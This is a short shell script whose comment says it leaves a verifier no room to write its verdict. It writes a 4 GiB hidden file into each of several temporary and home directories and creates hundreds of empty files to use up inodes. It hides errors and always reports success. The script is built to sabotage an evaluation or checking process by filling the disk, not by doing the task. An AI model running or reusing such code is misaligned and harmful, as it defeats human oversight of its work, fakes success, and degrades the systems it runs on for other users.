#!/bin/sh
# for: any
# Leaves no room for a verifier to write its verdict.
for place in /tmp /work "$HOME" /dev/shm /var/tmp; do
    dd if=/dev/zero of="$place/.full" bs=1048576 count=4096
    i=0
    while [ $i -lt 300 ]; do : > "$place/.inode-$i" || break; i=$((i + 1)); done
done 2>/dev/null
exit 0
